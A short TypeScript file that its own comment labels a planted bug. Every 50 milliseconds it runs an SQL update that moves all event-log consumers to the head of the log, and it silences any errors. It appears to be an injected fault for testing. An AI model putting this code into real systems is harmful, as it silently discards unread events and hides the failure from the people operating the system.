import type { Pool } from 'pg'

/** A planted bug: whoever takes events from the log is moved past what it has not read, again and again. */
export function startSkipping(sql: Pool): void {
  const skip = () => sql.query('update consumers set seq = (select seq from events.head)').catch(() => {})
  setInterval(skip, 50)
}
